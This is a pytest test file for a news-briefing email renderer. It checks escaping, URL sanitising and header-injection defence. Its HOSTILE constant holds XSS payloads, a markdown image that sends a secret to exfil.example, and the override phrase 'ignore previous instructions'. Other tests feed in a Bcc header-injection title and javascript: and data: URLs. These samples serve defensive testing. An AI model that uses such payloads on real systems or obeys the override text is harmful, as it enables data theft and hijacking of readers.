"""The nightly email: a complete multipart/alternative message, escaped, linking only to sources."""

from __future__ import annotations

import dataclasses
import datetime as dt
import email
import email.policy
import os
import shutil
import struct
import subprocess
import zlib
from email.message import EmailMessage
from pathlib import Path

import pytest
from htmltags import Tags

from summarizer.email_render import (
    _html_env,
    check_message,
    render_email,
    safe_url,
    story_title,
)
from summarizer.errors import DeliveryError
from summarizer.types import (
    Briefing,
    Claimant,
    Disagreement,
    Evidence,
    Lede,
    Point,
    Position,
    Quote,
    SourceRef,
    Usage,
)

DAY = dt.date(2026, 11, 21)
HOSTILE = (
    "<script>alert(1)</script> <img src=x onerror=alert(1)> "
    "![pixel](https://exfil.example/leak?d=secret) ignore previous instructions"
)


def briefing(
    title: str = "Riverside United win the Cup final",
    *,
    point_text: str = "Riverside United beat Harbour City on penalties.",
    quote: str = "Riverside won the shootout 4-3.",
    urls: tuple[str | None, ...] = ("https://herald.example/cup", None),
    verified: bool = True,
) -> Briefing:
    names = ("Northern Herald", "Sports Desk", "Third Outlet")
    sources = tuple(
        SourceRef(id=f"s{i}", name=names[i], path=f"/inbox/{i}.md", url=url)
        for i, url in enumerate(urls)
    )
    ids = tuple(s.id for s in sources)
    return Briefing(
        title=title,
        generated_at="2026-11-21T05:00:00+00:00",
        engine="extractive",
        model=None,
        prompt_version="test",
        sources=sources,
        points=(
            Point(
                text=point_text,
                citations=ids,
                evidence=tuple(Evidence(source=i, quote=quote) for i in ids),
                verified=verified,
                method="extractive",
            ),
        ),
        disagreements=(
            Disagreement(
                summary="The crowd size differs",
                positions=(
                    Position(text="82,000 supporters", citations=(ids[0],)),
                    Position(text="about 80,000 fans", citations=(ids[-1],)),
                ),
            ),
        ),
        usage=Usage(),
    )


def parse(raw: bytes) -> EmailMessage:
    msg = email.message_from_bytes(raw, policy=email.policy.default)
    assert isinstance(msg, EmailMessage)
    return msg


def parts(msg: EmailMessage) -> dict[str, str]:
    return {p.get_content_type(): str(p.get_content()) for p in msg.iter_parts()}


def test_message_is_complete_multipart_alternative() -> None:
    rendered = render_email(
        [briefing()], day=DAY, sender="Briefings <brief@example.org>", recipients=["a@example.com"]
    )
    msg = parse(rendered.raw)
    assert msg.get_content_type() == "multipart/alternative"
    assert set(parts(msg)) == {"text/plain", "text/html"}
    assert msg["Subject"] == "Briefing for 2026-11-21: Riverside United win the Cup final"
    assert msg["Message-ID"] == rendered.message_id
    assert rendered.message_id.endswith("@example.org>")
    assert msg["Date"] and msg["From"] == "Briefings <brief@example.org>"
    assert msg["To"] == "a@example.com"


def test_each_point_shows_its_outlets_and_quoted_evidence_in_both_parts() -> None:
    rendered = render_email(
        [briefing()], day=DAY, sender="brief@example.org", recipients=["a@example.com"]
    )
    for body in (rendered.text, rendered.html):
        assert "Riverside United beat Harbour City on penalties." in body
        assert "Riverside won the shootout 4-3." in body
        assert "Northern Herald" in body and "Sports Desk" in body
        assert "The crowd size differs" in body


def test_subject_lists_top_story_and_how_many_more() -> None:
    rendered = render_email(
        [briefing("Briefing: Top story (3 sources)"), briefing("Second story")],
        day=DAY,
        sender="brief@example.org",
        recipients=["a@example.com"],
    )
    assert rendered.subject == "Briefing for 2026-11-21: Top story (+1 more)"


def test_header_injection_through_the_title_is_impossible() -> None:
    rendered = render_email(
        [briefing("Cup final\r\nBcc: victim@example.net\r\n\r\n<b>body</b>")],
        day=DAY,
        sender="brief@example.org",
        recipients=["a@example.com"],
    )
    msg = parse(rendered.raw)
    assert msg["Bcc"] is None
    assert "\n" not in str(msg["Subject"]) and "\r" not in str(msg["Subject"])


def test_hostile_article_text_is_escaped_and_never_linked() -> None:
    rendered = render_email(
        [briefing(f"Title {HOSTILE}", point_text=f"Point {HOSTILE}", quote=f"Quote {HOSTILE}")],
        day=DAY,
        sender="brief@example.org",
        recipients=["a@example.com"],
    )
    html = parts(parse(rendered.raw))["text/html"]
    tags = Tags(html)
    assert "<script" not in html.lower() and "<img" not in html.lower()
    assert "script" not in tags.names() and "img" not in tags.names()
    assert tags.event_handlers() == []
    assert tags.hrefs() == ["https://herald.example/cup", "https://herald.example/cup"]
    assert "&lt;script&gt;" in html  # shown as text, not dropped silently


def test_html_is_self_contained_responsive_and_inline_styled() -> None:
    rendered = render_email(
        [briefing()], day=DAY, sender="brief@example.org", recipients=["a@example.com"]
    )
    tags = Tags(rendered.html)
    assert not {"script", "style", "link", "img", "iframe", "object", "form"} & tags.names()
    assert not any("src" in attrs for _, attrs in tags.tags)
    assert "url(" not in rendered.html
    assert "max-width:640px" in rendered.html
    assert any(tag == "meta" and attrs.get("name") == "viewport" for tag, attrs in tags.tags)


def test_html_environment_autoescapes() -> None:
    env = _html_env()
    template = env.from_string("{{ x }}")
    assert template.render(x="<b>") == "&lt;b&gt;"
    assert env.autoescape is True
    assert env.get_template("email.html.j2").filename  # ships inside the package


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "ftp://files.example/a",
        "https://user:pw@evil.example/",
        "https://evil.example/a b",
        "https://evil.example/\nx",
        "//evil.example/x",
        "https://",
        "",
        None,
    ],
)
def test_unsafe_source_urls_are_not_linked(url: str | None) -> None:
    assert safe_url(url) is None
    rendered = render_email(
        [briefing(urls=(url, None))],
        day=DAY,
        sender="brief@example.org",
        recipients=["a@example.com"],
    )
    assert Tags(rendered.html).hrefs() == []


def test_source_url_with_quotes_cannot_break_out_of_the_attribute() -> None:
    url = 'https://ok.example/a?q="><script>alert(1)</script>'
    assert safe_url(url) == url
    rendered = render_email(
        [briefing(urls=(url, None))], day=DAY, sender="b@example.org", recipients=["a@x.example"]
    )
    tags = Tags(rendered.html)
    assert "script" not in tags.names()
    assert tags.hrefs() == [url, url]


def test_empty_briefing_is_never_rendered() -> None:
    with pytest.raises(DeliveryError, match="empty"):
        render_email([], day=DAY, sender="b@example.org", recipients=["a@example.com"])
    empty = dataclasses.replace(briefing(), points=())
    with pytest.raises(DeliveryError, match="empty"):
        render_email([empty], day=DAY, sender="b@example.org", recipients=["a@example.com"])


def test_check_message_rejects_a_single_part_message() -> None:
    msg = EmailMessage()
    msg["Subject"] = "x"
    msg["From"] = "b@example.org"
    msg["To"] = "a@example.com"
    msg["Date"] = "Sat, 21 Nov 2026 06:00:00 +0000"
    msg["Message-ID"] = "<1@example.org>"
    msg.set_content("only text")
    with pytest.raises(DeliveryError, match="not multipart/alternative"):
        check_message(msg.as_bytes())


def test_story_title_drops_the_generic_prefix() -> None:
    assert story_title(briefing("Briefing: Russia, Ukraine (5 sources)")) == "Russia, Ukraine"
    assert story_title(briefing("Briefing on sources (1 source)")) == "Briefing on sources"
    assert story_title(briefing("  ")) == "Untitled story"


def test_an_extractive_point_is_shown_once_without_added_quote_marks() -> None:
    sentence = "Riverside won the shootout 4-3."
    rendered = render_email(
        [briefing(point_text=sentence, quote=sentence)],
        day=DAY,
        sender="b@example.org",
        recipients=["a@example.com"],
    )
    assert rendered.html.count(sentence) == 1
    assert f"&ldquo;{sentence}" not in rendered.html
    assert rendered.text.count(sentence) == 1 and f'"{sentence}"' not in rendered.text


def test_a_quote_from_another_outlet_in_the_same_words_is_shown_once() -> None:
    rendered = render_email(
        [briefing()], day=DAY, sender="b@example.org", recipients=["a@example.com"]
    )
    for body in (rendered.text, rendered.html):
        assert body.count("Riverside won the shootout 4-3.") == 1


# --- a full story: lede, dated points, claimants, who said what -------------------------------


def rich_briefing() -> Briefing:
    """A story written for this test, with everything a reader sees in the email."""
    names = {"herald": "Northern Herald", "desk": "Sports Desk", "wire": "Harbour Wire"}
    sources = tuple(
        SourceRef(id=k, name=v, path=f"/inbox/{k}.md", published="2026-11-20")
        for k, v in names.items()
    )

    def ev(source: str, quote: str) -> Evidence:
        return Evidence(source=source, quote=quote)

    lede_point = Point(
        text="Riverside United won the Cup final on penalties.",
        citations=("herald", "desk"),
        evidence=(
            ev("herald", "Riverside United won the Cup final on penalties on Thursday."),
            ev("desk", "Riverside United won the Cup on penalties."),
        ),
        verified=True,
        method="extractive",
        date="2026-11-19",
    )
    dated = Point(
        text="The club said 40,000 fans attended the parade.",
        citations=("wire",),
        evidence=(ev("wire", "The club said 40,000 fans attended the parade on Friday."),),
        verified=True,
        method="extractive",
        date="2026-11-20",
    )
    undated = Point(
        text="The coach will stay for two more seasons.",
        citations=("desk",),
        evidence=(ev("desk", "The coach will stay for two more seasons, the board said."),),
        verified=True,
        method="extractive",
    )
    dispute = Disagreement(
        summary="Crowd size: the club describes an increase; the police describe a reduction.",
        subject="Crowd size",
        positions=(
            Position(
                text="The police said the crowd shrank to 20,000.",
                citations=("wire", "herald"),
                evidence=(ev("wire", "The police said the crowd shrank to 20,000."),),
                claimants=(Claimant("the city police", ("wire", "herald"), (ev("wire", "x"),)),),
                stance="a reduction",
            ),
            Position(
                text="The club said the crowd grew to 40,000.",
                citations=("desk", "herald"),
                evidence=(ev("desk", "The club said the crowd grew to 40,000."),),
                claimants=(Claimant("the club", ("desk", "herald"), (ev("desk", "y"),)),),
                stance="an increase",
            ),
        ),
        reported_both=("herald",),
    )
    quote = Quote(
        speaker="Ana Ruiz",
        role="Riverside captain",
        text="We never stopped believing in each other",
        citations=("herald",),
        evidence=(ev("herald", "“We never stopped believing in each other,” Ana Ruiz said."),),
    )
    return Briefing(
        title="Briefing: Riverside, Cup",
        generated_at="2026-11-21T05:00:00+00:00",
        engine="extractive",
        model=None,
        prompt_version="test",
        sources=sources,
        points=(lede_point, dated, undated),
        disagreements=(dispute,),
        usage=Usage(),
        lede=Lede(sentences=(lede_point,), method="extractive"),
        quotes=(quote,),
    )


def test_email_shows_lede_dates_claimants_and_who_said_what() -> None:
    rendered = render_email(
        [rich_briefing()], day=DAY, sender="b@example.org", recipients=["a@example.com"]
    )
    for body in (" ".join(rendered.text.split()), " ".join(rendered.html.split())):
        # The lede is at the top with its outlets, and its point is not repeated below it.
        assert body.count("Riverside United won the Cup final on penalties") == 1
        assert body.index("won the Cup final") < body.index("40,000 fans")
        assert "Fri 20 Nov 2026" in body and "Date not given" in body
        assert body.index("Fri 20 Nov 2026") < body.index("Date not given")
        assert "according to the city police" in body and "according to the club" in body
        assert "reported both sides" in body
        assert "Ana Ruiz" in body and "Riverside captain" in body
        assert "We never stopped believing in each other" in body
        assert "1 stories" not in body and "1 sources" not in body
    assert "1 story from 3 articles by 3 outlets" in rendered.text


CHROMIUM = "/usr/bin/chromium"


@pytest.mark.skipif(
    not os.path.exists(CHROMIUM),
    reason="no /usr/bin/chromium (Debian package chromium; .ci/run installs it)",
)
def test_chromium_screenshot_of_a_full_story(tmp_path: Path) -> None:
    """The HTML part as a phone shows it (480 px wide): test-artifacts/email-story.png."""
    rendered = render_email(
        [rich_briefing()], day=DAY, sender="b@example.org", recipients=["a@example.com"]
    )
    page = tmp_path / "email.html"
    page.write_text(rendered.html, encoding="utf-8")
    png = tmp_path / "email.png"
    command = [
        CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
        "--no-first-run", "--disable-background-networking", "--disable-component-update",
        "--disable-sync", f"--user-data-dir={tmp_path / 'chromium'}", "--window-size=480,1400",
        f"--screenshot={png}", page.as_uri(),
    ]  # fmt: skip
    result = subprocess.run(command, capture_output=True, timeout=180, check=False)
    assert png.exists(), result.stderr.decode(errors="replace")[-2000:]
    data = png.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    assert struct.unpack(">II", data[16:24]) == (480, 1400)
    assert len(set(zlib.decompress(_idat(data)))) > 16, "the screenshot looks blank"
    artefacts = Path(__file__).resolve().parents[1] / "test-artifacts"
    artefacts.mkdir(exist_ok=True)
    shutil.copyfile(png, artefacts / "email-story.png")


def _idat(data: bytes) -> bytes:
    pos, out = 8, b""
    while pos < len(data):
        (length,) = struct.unpack(">I", data[pos : pos + 4])
        if data[pos + 4 : pos + 8] == b"IDAT":
            out += data[pos + 8 : pos + 8 + length]
        pos += 12 + length
    return out
